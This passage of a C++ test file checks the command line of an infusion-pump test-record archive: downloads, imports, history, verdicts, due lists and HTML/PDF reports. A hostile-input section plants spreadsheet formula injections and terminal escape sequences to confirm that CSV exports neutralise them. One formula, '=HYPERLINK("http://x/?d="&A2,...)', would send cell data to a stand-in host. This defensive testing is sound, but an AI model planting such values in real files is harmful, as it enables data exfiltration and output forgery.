// The archive through the command line: download --archive, history,
// import and downloads meeting in one archive, on SQLite and PostgreSQL.

#include <sys/ioctl.h>

#include <QDate>
#include <QImage>
#include <QLocale>
#include <chrono>

#include "tests/cli/clitest.h"
#include "workshop/plot.h"

namespace {

using namespace clitest;

// Text with tags and runs of white space read as one space, so that
// pdftotext's columns and a web page's cells read alike.
std::string words(const std::string& text) {
    std::string out;
    bool tag = false;
    for (char c : text) {
        if (c == '<') tag = true;
        const bool space = tag || c == ' ' || c == '\n' || c == '\r' || c == '\t' || c == '\f';
        if (c == '>') tag = false;
        if (!space)
            out += c;
        else if (!out.empty() && out.back() != ' ')
            out += ' ';
    }
    return out;
}

// A page in headless Chromium whose proxy goes nowhere: its screenshot,
// its rendered document, and what the page itself asked the network for
// (from the browser's network log; its own update checks are not the page's).
struct Browsed {
    std::string problem;
    QImage shot;
    std::string dom;
    std::vector<std::string> requests;
    int width = 0;  // the laid-out document's width in pixels
};

Browsed browse(const std::string& page, const std::string& folder) {
    Browsed b;
    fs::create_directories(folder);
    const std::string common = "chromium --headless --no-sandbox --disable-gpu --user-data-dir='" +
                               folder +
                               "/profile' --proxy-server=127.0.0.1:9 --window-size=1280,4000 ";
    const std::string shot = folder + "/shot.png", log = folder + "/net.json";
    const std::string url = "'file://" + page + "'";
    if (std::system((common + "--log-net-log='" + log + "' --screenshot='" + shot + "' " + url +
                     " >/dev/null 2>&1")
                        .c_str()) != 0 ||
        !b.shot.load(QString::fromStdString(shot))) {
        b.problem = "chromium could not take a screenshot (is it installed?)";
        return b;
    }
    std::FILE* dom = ::popen((common + "--dump-dom " + url + " 2>/dev/null").c_str(), "r");
    b.dom = dom ? slurpPipe(dom) : std::string();
    // The width from a copy that measures itself (the page has no script).
    const std::string measured = folder + "/measured.html";
    writeFile(measured, readFile(page) +
                            "<script>document.body.setAttribute('data-width', "
                            "document.documentElement.scrollWidth)</script>\n");
    std::FILE* wide =
        ::popen((common + "--dump-dom 'file://" + measured + "' 2>/dev/null").c_str(), "r");
    const std::string widthDom = wide ? slurpPipe(wide) : std::string();
    const std::size_t at = widthDom.find("data-width=\"");
    if (at != std::string::npos) b.width = std::atoi(widthDom.c_str() + at + 12);
    const QJsonDocument net = QJsonDocument::fromJson(QByteArray::fromStdString(readFile(log)));
    const int startJob = net["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"].toInt(-1);
    for (const QJsonValue& event : net["events"].toArray()) {
        const QJsonObject params = event["params"].toObject();
        if (event["type"].toInt() == startJob && params.contains("url") &&
            params["initiator"].toString() != "not an origin")
            b.requests.push_back(params["url"].toString().toStdString());
    }
    if (startJob < 0) b.problem = "no network log from chromium";
    return b;
}

// The archive through the command line, on SQLite and on PostgreSQL: two
// downloads that overlap, --new-only, an import of an archived download's
// CSV, history by device, tester and dates, and the archive's failures.
class CliArchive : public Cli, public ::testing::WithParamInterface<bool> {
protected:
    // The command line of a download from a virtual tester that holds these
    // records, into the archive db.
    std::vector<std::string> download(const std::string& db, const std::string& serial,
                                      const std::vector<TestRecord>& records,
                                      const std::string& id = "") {
        writeFile(path(serial + ".block"), VirtualTester::buildAllRecordsBlock(records));
        writeFile(path(serial + ".id"),
                  VirtualTester::buildIdentityReply(serial, id.empty() ? "Bay " + serial : id));
        return {"--virtual",
                "--block",
                path(serial + ".block"),
                "--identity",
                path(serial + ".id"),
                "download",
                "--archive",
                db};
    }
};

TEST_P(CliArchive, DownloadsImportsAndHistoryMeetInOneArchive) {
    ASSERT_EQ(pgtest::pg().problem, "");
    const std::string db = pgtest::freshArchive(GetParam(), dir_.string());
    ASSERT_NE(db, "");
    auto tester = [&](const std::string& serial, const std::vector<TestRecord>& records,
                      const std::string& id = "") { return download(db, serial, records, id); };
    auto with = [](std::vector<std::string> a, std::vector<std::string> more) {
        a.insert(a.end(), more.begin(), more.end());
        return a;
    };
    auto lines = [&](const std::string& file) {
        const std::string text = readFile(path(file));
        return std::count(text.begin(), text.end(), '\n');
    };
    const std::vector<TestRecord> monday = {makeRecord("IV-0042", "2 Mar 2026", "08:00"),
                                            makeRecord("IV-0042", "1 Mar 2026", "09:00"),
                                            makeRecord("IV-7", "3 Mar 2026", "10:00")};
    std::vector<TestRecord> tuesday = monday;
    tuesday.push_back(makeRecord("IV-0042", "4 Mar 2026", "11:00"));

    // The archive is an output of its own; the second download adds only
    // its new record, which is all that --new-only writes.
    Ran ran = run(with(tester("SN1", monday), {"--csv", path("monday.csv")}));
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    EXPECT_NE(ran.err.find("held no archive; a new one was made there\n"), std::string::npos);
    EXPECT_EQ(run(tester("SN1", monday)).code, CliDone);
    ran = run(with(tester("SN1", tuesday), {"--new-only", "--csv", path("new.csv")}));
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    EXPECT_EQ(lines("new.csv"), 3);
    EXPECT_NE(readFile(path("new.csv")).find("1,IV-0042,4 Mar 2026,11:00,"), std::string::npos);
    ran = run(with(tester("SN1", tuesday),
                   {"--new-only", "--raw", path("again.raw"), "--csv", path("none.csv")}));
    EXPECT_EQ(ran.code, CliNoRecords) << ran.err;
    EXPECT_TRUE(fs::exists(path("again.raw")));
    EXPECT_FALSE(fs::exists(path("none.csv")));

    // Monday's CSV export brings nothing new; a file that is none is refused,
    // and so is one that never ends, at once.
    ran = run({"--archive", db, "import", path("monday.csv")});
    EXPECT_EQ(ran.code, CliDone) << ran.err;
    EXPECT_EQ(ran.out, path("monday.csv") + ": 3 records, 0 new\n");
    EXPECT_EQ(run({"--archive", db, "import", path("SN1.id")}).code, CliUsage);
    for (const char* command : {"import", "assets"}) {
        ran = run({"--archive", db, command, "/dev/zero"});
        EXPECT_EQ(ran.code, CliUsage) << ran.err;
        EXPECT_NE(ran.err.find("cannot read \"/dev/zero\": line 1 is longer than"),
                  std::string::npos)
            << ran.err;
    }

    // History by device, dates inclusive, in test date order.
    ran = run({"--archive", db, "history", "--device", "IV-0042", "--since", "2026-03-01",
               "--until", "2026-03-02", "--csv", "-"});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    EXPECT_NE(ran.out.find("\r\n1,IV-0042,1 Mar 2026,09:00,"), std::string::npos) << ran.out;
    EXPECT_NE(ran.out.find("\r\n2,IV-0042,2 Mar 2026,08:00,"), std::string::npos) << ran.out;
    EXPECT_EQ(std::count(ran.out.begin(), ran.out.end(), '\n'), 4);

    // A second tester: text, CSV and PDF need --tester; JSON takes both.
    ASSERT_EQ(run(tester("SN2", {makeRecord("IV-0042", "5 Mar 2026")})).code, CliDone);
    ran = run({"--archive", db, "history", "--device", "IV-0042", "--text", path("h.txt")});
    EXPECT_EQ(ran.code, CliUsage);
    EXPECT_NE(ran.err.find("SN1 (Bay SN1), SN2 (Bay SN2)"), std::string::npos) << ran.err;
    EXPECT_EQ(run({"--archive", db, "history", "--tester", "SN2", "--text", path("h.txt")}).code,
              CliDone);
    EXPECT_NE(readFile(path("h.txt")).find("ID: Bay SN2 SN: SN2"), std::string::npos);
    ran = run({"--archive", db, "history", "--json", "-"});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    const QJsonDocument history = QJsonDocument::fromJson(QByteArray::fromStdString(ran.out));
    EXPECT_EQ(ran.out.size(), history.toJson(QJsonDocument::Indented).size());
    const QJsonArray all = history["records"].toArray();
    ASSERT_EQ(all.size(), 5);
    EXPECT_EQ(all[4]["tester"]["serial"].toString(), "SN2");
    EXPECT_EQ(all[0]["tested"].toString(), "2026-03-01T09:00:00");
    EXPECT_EQ(run({"--archive", db, "history", "--device", "IV-9", "--json", "-"}).code,
              CliNoRecords);

    // An output that fails leaves the archive as it was: the rerun gives the
    // same new records, which history --download N gives again later, the
    // night's files byte for byte: in the tester's order (not by date), under
    // the tester's ID of that night, stamped with that night's time.
    std::vector<TestRecord> wednesday = tuesday;
    wednesday.push_back(makeRecord("IV-0042", "6 Mar 2026", "12:00"));
    wednesday.push_back(makeRecord("IV-7", "5 Mar 2026", "07:00"));
    ran = run(with(tester("SN1", wednesday, "Bay North"),
                   {"--new-only", "--csv", path("no/such/folder.csv")}));
    EXPECT_EQ(ran.code, CliWriteFailed);
    EXPECT_NE(ran.err.find("the same command gives these records again"), std::string::npos);
    ran = run(
        with(tester("SN1", wednesday, "Bay North"), {"--new-only", "--csv", path("w.csv"), "--text",
                                                     path("w.txt"), "--records", path("w-r.txt")}));
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    EXPECT_EQ(lines("w.csv"), 4);
    ran = run({"--archive", db, "downloads", "--json", "-"});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    const QJsonObject last =
        QJsonDocument::fromJson(QByteArray::fromStdString(ran.out))["downloads"]
            .toArray()
            .last()
            .toObject();
    EXPECT_EQ(last["new"].toInt(), 2);
    EXPECT_EQ(last["records"].toInt(), 6);
    const std::string wednesdayDownload = std::to_string(last["download"].toInt());
    // A later day, and a later ID of the tester.
    setStampClock([] { return kStamp + 86400; });
    ASSERT_EQ(run(tester("SN1", wednesday, "Bay South")).code, CliDone);
    ran = run({"--archive", db, "history", "--download", wednesdayDownload, "--csv",
               path("w-again.csv"), "--text", path("w-again.txt"), "--records",
               path("w-again-r.txt")});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    for (const char* file : {"w.csv", "w.txt", "w-r.txt"}) {
        const std::string again = std::string(file).insert(1, "-again");
        EXPECT_EQ(readFile(path(again)), readFile(path(file))) << again;
    }
    EXPECT_NE(readFile(path("w.csv")).find("\r\n1,IV-0042,6 Mar 2026,12:00,"), std::string::npos);
    // --sort still sorts them.
    ran = run({"--archive", db, "history", "--download", wednesdayDownload, "--sort", "date",
               "--csv", "-"});
    EXPECT_NE(ran.out.find("\r\n1,IV-7,5 Mar 2026,07:00,"), std::string::npos) << ran.out;
    setStampClock(&fixedStamp);

    // A tester is its serial number: renamed on its keypad, SN1 is still one
    // tester, and the headers name its latest ID.
    ran = run({"--archive", db, "history", "--tester", "SN1", "--text", path("sn1.txt")});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    EXPECT_NE(readFile(path("sn1.txt")).find("ID: Bay South SN: SN1"), std::string::npos);

    // history's own files carry more than 123 records into another archive,
    // all of them or none: a batch with a file that fails adds nothing.
    std::vector<TestRecord> many;
    for (int i = 0; i < 246; ++i)
        many.push_back(makeRecord("P" + std::to_string(i), "7 Mar 2026", "13:00"));
    ASSERT_EQ(run(tester("SN3", {many.begin(), many.begin() + 123})).code, CliDone);
    ASSERT_EQ(run(tester("SN3", {many.begin() + 123, many.end()})).code, CliDone);
    ASSERT_EQ(run({"--archive", db, "history", "--tester", "SN3", "--csv", path("all.csv"),
                   "--text", path("all.txt"), "--records", path("all-r.txt")})
                  .code,
              CliDone);
    const std::string other = pgtest::freshArchive(GetParam(), dir_.string());
    pgtest::makeForeignDatabase(path("foreign.db"));
    // A file that is no archive is refused before the archive is opened:
    // none is made.
    ran = run({"--archive", other, "import", path("all.csv"), path("foreign.db")});
    EXPECT_EQ(ran.code, CliUsage) << ran.err;
    EXPECT_NE(ran.err.find("is not a LUM Kest archive"), std::string::npos) << ran.err;
    EXPECT_EQ(ran.out, "");
    EXPECT_EQ(run({"--archive", other, "history", "--json", "-"}).code, CliArchiveFailed);
    EXPECT_FALSE(fs::exists(other));
    ran = run({"--archive", other, "import", path("all.csv"), path("all.txt"), path("all-r.txt")});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    EXPECT_EQ(ran.out, path("all.csv") + ": 246 records, 246 new\n" + path("all.txt") +
                           ": 246 records, 0 new\n" + path("all-r.txt") + ": 246 records, 0 new\n");
}

// The asset list judges every record: the flow's window with a value on its
// limit, a model row inherited, a device not in the list, a flow that does
// not read; an older version reproduces an older verdict; the due list.
TEST_P(CliArchive, VerdictsAndTheDueList) {
    ASSERT_EQ(pgtest::pg().problem, "");
    const std::string db = pgtest::freshArchive(GetParam(), dir_.string());
    auto record = [](const std::string& id, const std::string& date, const std::string& flow) {
        TestRecord r = makeRecord(id, date, "10:00");
        SET_FIELD(r, flow, flow);
        return r;
    };
    ASSERT_EQ(
        run(download(db, "SN1",
                     {record("IV-1", "1 Mar 2026", "105"), record("IV-2", "2 Mar 2026", "105.1"),
                      record("IV-3", "3 Mar 2026", "100"), record("IV-4", "4 Mar 2026", "n/a")}))
            .code,
        CliDone);
    // A list with a row that does not read is refused whole, and so is one
    // whose header misspells a limit's column.
    writeFile(path("bad.csv"), std::string("device_id,flow_low_pct\r\nIV-1,-5\r\nIV-2,five\r\n"));
    Ran ran = run({"--archive", db, "assets", path("bad.csv")});
    EXPECT_EQ(ran.code, CliUsage);
    EXPECT_NE(ran.err.find("line 3"), std::string::npos) << ran.err;
    EXPECT_NE(ran.err.find("flow_low_pct"), std::string::npos) << ran.err;
    writeFile(path("typo.csv"),
              std::string("device_id,set_rate_ml_h,flow_hihg_pct\r\nIV-2,100,4\r\n"));
    ran = run({"--archive", db, "assets", path("typo.csv")});
    EXPECT_EQ(ran.code, CliUsage);
    EXPECT_NE(ran.err.find("column flow_hihg_pct: no such column; did you mean flow_high_pct?"),
              std::string::npos)
        << ran.err;
    const std::string heads =
        "Device_ID,Model,set_rate_ml_h,flow_low_pct,flow_high_pct,interval_days\r\n";
    writeFile(path("v1.csv"), heads +
                                  ",P3,100,-5,5,365\r\nIV-1,P3,,,,\r\nIV-2,P3,,,,\r\n"
                                  "IV-4,P3,,,,\r\nIV-9,P3,,,,\r\n");
    writeFile(path("v2.csv"), heads + ",P3,100,-5,4,365\r\nIV-1,P3,,,,\r\nIV-2,P3,,,,\r\n");
    ran = run({"--archive", db, "assets", path("v1.csv")});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    EXPECT_EQ(ran.out, path("v1.csv") + ": asset list 1, 5 rows\n");
    EXPECT_EQ(ran.err, "");

    // The next night: IV-2 repaired and passing; an old test of IV-1, and
    // one a tester dated a year ahead of the day it was received.
    ASSERT_EQ(
        run(download(db, "SN2",
                     {record("IV-2", "10 Mar 2026", "100"), record("IV-1", "1 Jan 2025", "105"),
                      record("IV-1", "5 Jun 2027", "100")}))
            .code,
        CliDone);

    // Another archive's asset list is not taken into one that has its own.
    const std::string other = path("other.db");
    ASSERT_EQ(run({"--archive", other, "assets", path("v1.csv")}).code, CliDone);
    ran = run({"--archive", db, "import", other});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    EXPECT_NE(ran.out.find("; 1 asset list not imported: this archive has its own\n"),
              std::string::npos)
        << ran.out;

    // The results a maintenance-management system imports, read by Python's csv.
    ASSERT_EQ(run({"--archive", db, "history", "--results", path("r.csv")}).code, CliDone);
    const std::string read =
        "python3 -c 'import csv,sys; print(\";\".join(r[\"asset_id\"] + \" \" + "
        "r[\"result\"] + \" \" + r[\"asset_list\"] + \" \" + r[\"date_check\"] for r in "
        "csv.DictReader(open(sys.argv[1], newline=\"\", encoding=\"utf-8\"))))' " +
        path("r.csv");
    std::FILE* python = ::popen(read.c_str(), "r");
    ASSERT_NE(python, nullptr);
    EXPECT_EQ(slurpPipe(python),
              "IV-1 PASS 1 ok;IV-1 PASS 1 ok;IV-2 FAIL 1 ok;IV-3 NOT ASSESSED 1 ok;IV-4 UNREADABLE "
              "1 ok;IV-2 PASS 1 ok;IV-1 PASS 1 after receipt\n");
    ran = run({"--archive", db, "history", "--result", "fail", "--json", "-"});
    const QJsonArray failed =
        QJsonDocument::fromJson(QByteArray::fromStdString(ran.out))["records"].toArray();
    ASSERT_EQ(failed.size(), 1);
    EXPECT_EQ(failed[0]["deviceID"].toString(), "IV-2");
    EXPECT_EQ(failed[0]["verdict"]["flow"].toString(), "fail");
    EXPECT_EQ(failed[0]["verdict"]["limits"]["setRateMlPerHour"].toDouble(), 100);
    ran = run({"--archive", db, "history", "--device", "IV-1", "--json", "-"});
    const QJsonDocument ofIv1 = QJsonDocument::fromJson(QByteArray::fromStdString(ran.out));
    EXPECT_EQ(ofIv1["format"].toInt(), 3);
    EXPECT_FALSE(ofIv1["records"][1]["verdict"]["datedAfterReceipt"].toBool());
    EXPECT_TRUE(ofIv1["records"][2]["verdict"]["datedAfterReceipt"].toBool());

    // A later version judges by its own limits; the first one still gives
    // the first verdict.  The assets it drops are named as it is added.
    ran = run({"--archive", db, "-q", "assets", path("v2.csv")});
    ASSERT_EQ(ran.code, CliDone);
    EXPECT_EQ(ran.err,
              "lumkest-cli: asset list 2: 2 assets of the previous version are not in this one, so "
              "their past tests become NOT ASSESSED under it (to retire an asset, keep its rows "
              "and give retired_from): IV-4, IV-9\n");
    ran = run({"--archive", db, "assets", "--json", "-"});
    const QJsonDocument assets = QJsonDocument::fromJson(QByteArray::fromStdString(ran.out));
    EXPECT_EQ(assets["assetList"].toInt(), 2);
    EXPECT_EQ(assets["assets"][1]["deviceID"].toString(), "IV-1");
    EXPECT_EQ(assets["assets"][0]["flowHighPercent"].toDouble(), 4);
    auto verdictOfFirst = [&](std::vector<std::string> more) {
        std::vector<std::string> args = {"--archive", db,       "history", "--device",
                                         "IV-1",      "--json", "-"};
        args.insert(args.end(), more.begin(), more.end());
        const QJsonDocument doc = QJsonDocument::fromJson(QByteArray::fromStdString(run(args).out));
        return doc["records"][0]["verdict"]["result"].toString().toStdString() + " " +
               std::to_string(doc["records"][0]["verdict"]["assetList"].toInt());
    };
    EXPECT_EQ(verdictOfFirst({}), "FAIL 2");
    EXPECT_EQ(verdictOfFirst({"--asset-list", "1"}), "PASS 1");
    // A version the archive does not hold is bad usage, for every command
    // that judges, and for download before the tester is opened.
    for (const std::vector<std::string>& args :
         {std::vector<std::string>{"--archive", db, "history", "--asset-list", "9", "--json", "-"},
          {"--archive", db, "due", "--asset-list", "9"},
          {"--archive", db, "assets", "--asset-list", "9"},
          {"--virtual", "download", "--archive", db, "--asset-list", "9", "--raw",
           path("9.raw")}}) {
        ran = run(args);
        EXPECT_EQ(ran.code, CliUsage) << args[2];
        EXPECT_EQ(ran.err, "lumkest-cli: asset list 9 does not exist; the archive holds 1 to 2\n");
    }
    EXPECT_FALSE(fs::exists(path("9.raw")));

    // Due: by the first list, IV-9 never tested, IV-4 failed (its last test
    // does not read), IV-2 failed until its passing test of 10 March, IV-1
    // due a year after its test of 1 March (the one dated 2027 counts for
    // nothing).
    auto due = [&](std::vector<std::string> more) {
        std::vector<std::string> args = {"--archive", db, "due", "--asset-list", "1", "--csv", "-"};
        args.insert(args.end(), more.begin(), more.end());
        return run(args).out;
    };
    const std::string dueHeads =
        "device_id,model,location,last_tested,interval_days,due_date,status,asset_tag,kind\r\n";
    EXPECT_EQ(due({"--as-of", "2026-06-01"}),
              dueHeads +
                  "IV-4,P3,,2026-03-04,365,2027-03-04,failed,,asset\r\n"
                  "IV-9,P3,,,365,,never tested,,asset\r\n");
    EXPECT_EQ(due({"--as-of", "2026-03-05"}),
              dueHeads +
                  "IV-2,P3,,2026-03-02,365,2027-03-02,failed,,asset\r\n"
                  "IV-4,P3,,2026-03-04,365,2027-03-04,failed,,asset\r\n"
                  "IV-9,P3,,,365,,never tested,,asset\r\n");
    EXPECT_NE(due({"--as-of", "2026-02-01"}).find("IV-1,P3,,2025-01-01,365,2026-01-01,overdue"),
              std::string::npos);
    EXPECT_NE(due({"--as-of", "2027-03-01"}).find("IV-1,P3,,2026-03-01,365,2027-03-01,due,"),
              std::string::npos);
    EXPECT_NE(due({"--as-of", "2027-03-02"}).find(",overdue,"), std::string::npos);
    EXPECT_NE(due({"--as-of", "2026-06-01", "--within", "280"}).find("IV-1,P3,,2026-03-01"),
              std::string::npos);
    // By the second list's narrower window IV-1's last test fails.
    ran = run({"--archive", db, "due", "--as-of", "2026-06-01"});
    EXPECT_EQ(ran.code, CliDone);
    EXPECT_EQ(ran.out,
              "device_id  model  location  last_tested  interval_days  due_date    status  "
              "asset_tag\n"
              "IV-1       P3               2026-03-01             365  2027-03-01  failed\n");
    EXPECT_EQ(due({"--as-of", "2026-12-01", "--all"}).find("IV-1,P3,,2027"), std::string::npos);

    // The workshop report by the first list, as PDF and as a web page: the
    // same summary and sections in both, a page per device in the PDF.
    ran = run({"--archive", db, "report", "--asset-list", "1", "--as-of", "2026-06-01", "--pdf",
               path("w.pdf"), "--html", path("w.html")});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    const std::string pdf = words(pdfText(path("w.pdf")));
    const std::string page = words(readFile(path("w.html")));
    for (const char* says :
         {"Workshop Report", "Asset list: version 1", "Total 5", "P3 4 2 1 0 1", "IV-2 P3",
          "failed 1", "never tested 1", "ok 2", "Device IV-4", "Not in the asset list (version 1)",
          "FAIL (flow)", "2 tests lie outside the period and are left out."}) {
        EXPECT_NE(pdf.find(says), std::string::npos) << says << "\n" << pdf;
        EXPECT_NE(page.find(says), std::string::npos) << says << "\n" << page;
    }
    EXPECT_NE(pdf.find("page 5 of 5"), std::string::npos) << pdf;
    // The period is the twelve months up to --as-of, and every date of the
    // report, the stamp's too, is written the locale's one way.
    auto date = [](int y, int m, int d) {
        return QLocale::system().toString(QDate(y, m, d), QLocale::ShortFormat).toStdString();
    };
    for (const std::string& says : {"Period: " + date(2025, 6, 2) + " to " + date(2026, 6, 1),
                                    "Data Printed On " + date(2026, 12, 7) + " "}) {
        EXPECT_NE(pdf.find(says), std::string::npos) << says;
        EXPECT_NE(page.find(says), std::string::npos) << says;
    }
    // Over a period that holds it, the test dated after its receipt is named.
    ASSERT_EQ(run({"--archive", db, "report", "--asset-list", "1", "--since", "2025-01-01",
                   "--as-of", "2027-06-30", "--html", path("late.html")})
                  .code,
              CliDone);
    const std::string late = words(readFile(path("late.html")));
    for (const char* says : {"PASS, dated after receipt", "Total 7"})
        EXPECT_NE(late.find(says), std::string::npos) << says << "\n" << late;
    EXPECT_EQ(run({"--archive", db, "report", "--device", "IV-7", "--html", path("x.html")}).code,
              CliNoRecords);
    EXPECT_FALSE(fs::exists(path("x.html")));

    // The web page in a real browser that may reach no network: the page
    // asks for nothing, it is drawn (plots and all), and it reads the same.
    const Browsed browsed = browse(path("w.html"), path("browser"));
    ASSERT_EQ(browsed.problem, "");
    EXPECT_TRUE(browsed.requests.empty()) << browsed.requests.front();
    EXPECT_NE(words(browsed.dom).find("IV-2 P3"), std::string::npos);
    EXPECT_NE(words(browsed.dom).find("FAIL (flow)"), std::string::npos);
    int band = 0, dark = 0;
    for (int y = 0; y < browsed.shot.height(); y += 2)
        for (int x = 0; x < browsed.shot.width(); x += 2) {
            const QColor c = browsed.shot.pixelColor(x, y);
            band += c == QColor(kPlotBand.red, kPlotBand.green, kPlotBand.blue);
            dark += c.lightness() < 80;
        }
    EXPECT_GT(band, 1000);
    EXPECT_GT(dark, 1000);

    // The pump's whole life: a third list gives asset tags and retires IV-2
    // from 5 March (its test of 10 March comes after it); a tester list
    // keeps SN1 in calibration and SN2 out of it since January; a tester
    // keys "iv 1" for IV-1.
    writeFile(path("v3.csv"),
              std::string("device_id,model,set_rate_ml_h,flow_low_pct,flow_high_pct,"
                          "interval_days,asset_tag,retired_from\r\n,P3,100,-5,5,365,,\r\n"
                          "IV-1,P3,,,,,T-1,\r\nIV-2,P3,,,,,T-2,2026-03-05\r\nIV-4,P3,,,,,,\r\n"
                          "IV-9,P3,,,,,,\r\n"));
    writeFile(path("testers.csv"),
              std::string("tester_serial,calibrated_on,calibration_due,certificate\r\n"
                          "SN1,2026-01-01,2026-12-31,C-11\r\nSN2,2025-01-01,2026-01-31,"
                          "C-7\r\n"));
    ASSERT_EQ(run({"--archive", db, "assets", path("v3.csv")}).code, CliDone);
    ran = run({"--archive", db, "testers", path("testers.csv")});
    ASSERT_EQ(ran.code, CliDone) << ran.err;
    EXPECT_EQ(ran.out, path("testers.csv") + ": tester list 1, 2 rows\n");
    // Another archive's tester list goes only into one without its own, and
    // the import's line says which.
    const std::string lists = path("lists.db");
    ASSERT_EQ(run({"--archive", lists, "testers", path("testers.csv")}).code, CliDone);
    EXPECT_EQ(run({"--archive", path("fresh.db"), "import", lists}).out,
              lists + ": 0 downloads, 0 new; 0 records, 0 new; 1 tester list, 1 new\n");
    EXPECT_EQ(run({"--archive", db, "import", lists}).out,
              lists +
                  ": 0 downloads, 0 new; 0 records, 0 new; 1 tester list not imported: "
                  "this archive has its own\n");
    ASSERT_EQ(run(download(db, "SN3", {record("iv 1", "12 Mar 2026", "100")})).code, CliDone);
    EXPECT_EQ(run({"--archive", db, "unknown", "--csv", "-"}).out,
              "device_id,tests,last_tested,tester_serial,looks_like\r\n"
              "IV-3,1,2026-03-03T10:00:00,SN1,\r\niv 1,1,2026-03-12T10:00:00,SN3,IV-1\r\n");
    const std::string all =
        run({"--archive", db, "due", "--as-of", "2026-06-01", "--all", "--csv", "-"}).out;
    for (const char* says : {"IV-2,P3,,2026-03-10,365,2027-03-10,retired,T-2,asset\r\n",
                             "IV-1,P3,,2026-03-01,365,2027-03-01,ok,T-1,asset\r\n",
                             "SN2,,,2025-01-01,,2026-01-31,overdue,,tester\r\n",
                             "SN1,,,2026-01-01,,2026-12-31,ok,,tester\r\n"})
        EXPECT_NE(all.find(says), std::string::npos) << says << "\n" << all;
    ran = run({"--archive", db, "history", "--device", "IV-2", "--results", "-", "--json",
               path("iv2.json")});
    EXPECT_NE(ran.out.find(",ok,T-2,valid\r\n"), std::string::npos) << ran.out;
    EXPECT_NE(ran.out.find(",ok,T-2,expired\r\n"), std::string::npos) << ran.out;
    const QJsonDocument iv2 =
        QJsonDocument::fromJson(QByteArray::fromStdString(readFile(path("iv2.json"))));
    EXPECT_EQ(iv2["records"][1]["verdict"]["assetTag"].toString(), "T-2");
    EXPECT_EQ(iv2["records"][1]["verdict"]["testerCalibration"].toString(), "expired");
    ASSERT_EQ(
        run({"--archive", db, "report", "--as-of", "2026-06-01", "--html", path("life.html")}).code,
        CliDone);
    const std::string life = words(readFile(path("life.html")));
    for (const char* says :
         {"Tester list: version 1", "Tests of devices not in the asset list", "iv 1 1",
          "looks like IV-1", "Failed (not yet repaired) Device Asset tag", "IV-4 P3",
          "Never tested", "IV-9", "after retirement", "tester SN2 out of calibration",
          "Planned maintenance on time", "retired 1", "tester out of calibration"})
        EXPECT_NE(life.find(says), std::string::npos) << says << "\n" << life;
    EXPECT_NE(readFile(path("life.html")).find("<h3 id=\"unknown\">"), std::string::npos);
    // The same as a folder of pages: the index links each device's page,
    // and each page stands alone with a way back.
    ASSERT_EQ(
        run({"--archive", db, "report", "--as-of", "2026-06-01", "--html-dir", path("pages")}).code,
        CliDone);
    const std::string index = readFile(path("pages/index.html"));
    EXPECT_NE(words(index).find("Planned maintenance on time"), std::string::npos);
    for (int n = 1; n <= 4; ++n) {
        const std::string page = "device-" + std::to_string(n) + ".html";
        EXPECT_NE(index.find("href=\"" + page + "\""), std::string::npos) << page;
        const std::string html = readFile(path("pages/" + page));
        EXPECT_NE(html.find("<a href=\"index.html\">"), std::string::npos) << page;
        EXPECT_NE(html.find("</html>"), std::string::npos) << page;
    }
    EXPECT_NE(words(readFile(path("pages/device-2.html"))).find("after retirement"),
              std::string::npos);

    // Hostile texts: a tester whose ID is a formula, one whose ID would
    // retitle the terminal and forge a line, a device ID and asset-list
    // texts that a spreadsheet would run, control bytes, and a location of
    // 200 characters without a space.
    const std::string forged = "\x1b]0;o\x07\x1b[2J\r\nSN: X";
    ASSERT_EQ(run(download(db, "SN4",
                           {record("IV-1", "14 Mar 2026", "95"), record("@P", "14 Mar 2026", "95"),
                            record("\tQ", "14 Mar 2026", "95")},
                           "=7*6"))
                  .code,
              CliDone);
    ASSERT_EQ(run(download(db, "SN5", {record("IV-9", "15 Mar 2026", "100")}, forged)).code,
              CliDone);
    const std::string wide = "+" + std::string(199, 'W');
    writeFile(path("v4.csv"),
              "device_id,model,location,set_rate_ml_h,flow_low_pct,flow_high_pct,interval_days,"
              "asset_tag\r\n,P3,,100,-5,5,365,\r\n"
              "IV-1,P3,\"=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"Ward 3\"\")\",,,,,-T1\r\n"
              "IV-2,P3," +
                  wide +
                  ",,,,,\r\nIV-3,P3,W,,,,,\r\nIV-4,P3,-W,,,,,\r\n"
                  "IV-5,P3,\"\rW\x1b[2J\",,,,,\r\nIV-9,P3,@W,,,,,\r\n");
    ASSERT_EQ(run({"--archive", db, "assets", path("v4.csv")}).code, CliDone);
    writeFile(path("testers2.csv"),
              std::string("tester_serial,calibrated_on,calibration_due,certificate\r\n"
                          "SN4,2026-01-01,2026-12-31,=1+1\r\n"));
    ASSERT_EQ(run({"--archive", db, "testers", path("testers2.csv")}).code, CliDone);
    // In the CSVs a spreadsheet opens, each formula-like text is kept as
    // text by a leading apostrophe; numbers (-5.0) and keys are as they are.
    const std::string results =
        run({"--archive", db, "history", "--since", "2026-03-14", "--results", "-"}).out;
    for (const char* says :
         {"\"'=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"Ward 3\"\")\"", ",\"'=7*6\",", ",\"'-T1\",",
          "\"'@P\",", "\"'\tQ\",", ",PASS,95,100,-5,-5,5,"})
        EXPECT_NE(results.find(says), std::string::npos) << says << "\n" << results;
    const std::string dueAll = run({"--archive", db, "due", "--all", "--csv", "-"}).out;
    const std::string assetCsv = run({"--archive", db, "assets", "--csv", "-"}).out;
    for (const std::string& says : {",\"'" + wide + "\",", std::string(",\"'-W\","),
                                    std::string(",\"'\rW\x1b[2J\","), std::string(",\"'@W\",")}) {
        EXPECT_NE(dueAll.find(says), std::string::npos) << says << "\n" << dueAll;
        EXPECT_NE(assetCsv.find(says), std::string::npos) << says << "\n" << assetCsv;
    }
    EXPECT_NE(run({"--archive", db, "testers", "--csv", "-"}).out.find(",\"'=1+1\""),
              std::string::npos);
    const std::string unknownCsv = run({"--archive", db, "unknown", "--csv", "-"}).out;
